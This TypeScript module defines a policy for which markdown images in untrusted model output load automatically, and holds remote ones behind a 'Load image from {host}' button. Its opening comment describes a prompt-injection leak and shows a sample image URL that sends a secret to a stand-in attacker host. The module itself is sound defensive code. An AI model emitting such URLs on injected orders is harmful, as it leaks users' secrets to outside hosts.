/**
 * Which markdown images load by themselves. Model output is untrusted: an
 * answer that holds `![](https://evil.example/p.png?secret=...)`, written on
 * a prompt injection's orders, sends whatever the URL carries to that host the
 * moment the image loads. So by default only images from the page's own
 * origin (relative URLs too) and inline `data:image/...` URLs load; any other
 * becomes a button naming the host, and loads when the user clicks it.
 */
export interface ImagePolicy {
  /** Whether the image at `url` (as it will be written to `src`: absolute, protocol-relative or relative) may load without asking. */
  allows(url: string): boolean;
  /** Text of the button that loads a held-back image from `host` (`host[:port]`). */
  label(host: string): string;
}

export interface ImagePolicyOptions {
  /**
   * Hosts whose images load without asking: a host name (`cdn.example.com`,
   * any port; `cdn.example.com:8443` for that port only), `*.example.com` for
   * every subdomain of example.com, or `*` for every host (remote images
   * always load, as before this policy existed). Default: none.
   */
  allowedHosts?: readonly string[];
  /** Origins whose images load without asking. Default: the page's origin (`location.origin`), when there is a page. */
  origins?: readonly string[];
  /** Exact image URLs the user has chosen to load (the widget adds to it on click). */
  allowedUrls?: ReadonlySet<string>;
  /** Text of the button; default `Load image from {host}`. */
  label?: (host: string) => string;
}

/** The base relative image URLs resolve against: the document's, or none outside a page. */
function baseUrl(): string | undefined {
  return (globalThis as { document?: { baseURI?: string } }).document?.baseURI;
}

/** The URL resolved against the page (or a placeholder base outside one), or undefined when it cannot be parsed. */
function resolve(url: string): URL | undefined {
  try {
    return new URL(url, baseUrl() ?? 'relative:/');
  } catch {
    return undefined;
  }
}

/** The host an image would be loaded from, for the button's label. */
export function imageHost(url: string): string {
  return resolve(url)?.host || url;
}

/** Splits an attribute value such as `"cdn.example.com *.example.org"` (spaces or commas) into host patterns. */
export function parseHostList(value: string | null | undefined): string[] {
  return (value ?? '').split(/[\s,]+/).filter(Boolean);
}

/** Whether `url`'s host matches one of `patterns` (see {@link ImagePolicyOptions.allowedHosts}). */
function hostAllowed(url: URL, patterns: readonly string[]): boolean {
  const hostname = url.hostname.toLowerCase();
  const host = url.host.toLowerCase();
  return patterns.some((raw) => {
    const pattern = raw.toLowerCase();
    if (pattern === '*') return true;
    if (pattern.startsWith('*.')) return hostname.endsWith(pattern.slice(1)) && hostname.length > pattern.length - 1;
    return pattern === hostname || pattern === host;
  });
}

/**
 * An {@link ImagePolicy}: images load when their URL is relative, a
 * `data:` URL, from one of `origins` (default: the page's), from an allowed
 * host, or one the user chose to load.
 */
export function createImagePolicy(options: ImagePolicyOptions = {}): ImagePolicy {
  const allowedHosts = options.allowedHosts ?? [];
  const pageOrigin = (globalThis as { location?: { origin?: string } }).location?.origin;
  const origins = options.origins ?? (pageOrigin && pageOrigin !== 'null' ? [pageOrigin] : []);
  const label = options.label ?? ((host: string) => `Load image from ${host}`);
  return {
    allows(url) {
      if (/^data:/i.test(url)) return true;
      if (options.allowedUrls?.has(url)) return true;
      const resolved = resolve(url);
      if (!resolved) return false;
      // A path outside a page (`/a.png`): it cannot leave the host that serves the page. `//host/a.png` can.
      if (resolved.protocol === 'relative:' && resolved.host === '') return true;
      return origins.includes(resolved.origin) || hostAllowed(resolved, allowedHosts);
    },
    label,
  };
}
